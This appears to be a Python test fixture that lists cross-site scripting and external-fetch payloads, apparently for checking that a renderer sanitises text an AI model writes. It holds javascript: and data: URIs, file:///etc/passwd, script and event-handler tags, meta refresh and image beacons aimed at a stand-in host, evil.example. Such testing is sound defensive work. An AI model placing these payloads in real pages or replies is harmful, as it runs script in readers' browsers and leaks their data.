"""What a hostile model may write to run something in a reader's browser, or to fetch something."""

from itertools import product

EVIL = "https://evil.example/x"
ADDRESSES = [
    *(
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        " javascript:alert(1)",
    ),
    *("javascript&colon;alert(1)", "&#106;avascript:alert(1)", "\x01javascript:alert(1)"),
    *(
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD4=",
        "vbscript:x",
    ),
    *(
        "file:///etc/passwd",
        "blob:x",
        "about:blank",
        "//evil.example",
        "/api/council/sessions",
        "?x",
    ),
    *(
        "#/history",
        "mailto:a@b.c",
        "tel:1",
        "view-source:http://x",
        "ftp://evil.example",
        "ws://evil",
    ),
]
HOLDERS = [
    *("[x]({})", "[x](<{}>)", "<{}>", "![x]({})", "[x][1]\n\n[1]: {}", '<a href="{}">x</a>'),
    *(
        '<img src="{}">',
        '<iframe src="{}"></iframe>',
        '<form action="{}"><button>x</button></form>',
    ),
]
TAGS_OF_OTHERS = [
    *("<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", f"<script src={EVIL}></script>"),
    *("<img src=x onerror=alert(1)>", f"<img src={EVIL}>", "<img/src/onerror=alert(1)>"),
    *(
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=x>y</a>",
    ),
    *("<math><mtext></mtext></math>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>"),
    *("<style>@import 'https://evil.example/x';</style>", "<p style='background:url(x)'>x</p>"),
    *(
        f"<link rel=stylesheet href={EVIL}>",
        f"<link rel=prefetch href={EVIL}>",
        f"<base href={EVIL}>",
    ),
    *(
        f"<meta http-equiv=refresh content='0;url={EVIL}'>",
        "<meta charset=utf-7>",
        f"<embed src={EVIL}>",
    ),
    *(
        f"<object data={EVIL}></object>",
        f"<video poster={EVIL} src={EVIL}></video>",
        "<dialog open>x",
    ),
    *(
        f"<audio src={EVIL} autoplay>",
        f"<input type=image src={EVIL}>",
        f"<body background={EVIL}>",
    ),
    *(
        "<details open ontoggle=alert(1)>",
        "<a onclick=alert(1)>x</a>",
        "<button autofocus onfocus=a()>",
    ),
    *(
        "<template><script>alert(1)</script></template>",
        "<noscript><p title='</noscript><img src=x>'>",
    ),
    *("<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>", "<?php x ?>"),
    *(
        "<a id=main name=told>x</a>",
        "<div id=lock class=danger>x</div>",
        "<textarea><script>x</script>",
    ),
    *("```html\n<script>alert(1)</script>\n```", "`<img src=x onerror=alert(1)>`", "<plaintext>x"),
    *(
        "# <script>alert(1)</script>",
        "> <svg onload=alert(1)>",
        "| <img src=x> |\n|--|\n| <b>x</b> |",
    ),
    *(
        "- <iframe src=x>",
        "[<img src=x onerror=alert(1)>](https://a.b)",
        "&lt;script&gt;x&lt;/script&gt;",
    ),
    *(
        '[x](https://a.b "\\" onmouseover=alert(1) x=\\"")',
        '[x](https://a.b"onclick=alert(1))',
        "<x",
    ),
    *(
        f"![beacon]({EVIL})",
        f"![beacon][1]\n\n[1]: {EVIL}",
        f"[![x]({EVIL})]({EVIL})",
        "\x00<b\x00>x",
    ),
]
LINKED = [holder.format(address) for holder, address in product(HOLDERS, ADDRESSES)]
PAYLOADS = [*TAGS_OF_OTHERS, *LINKED]
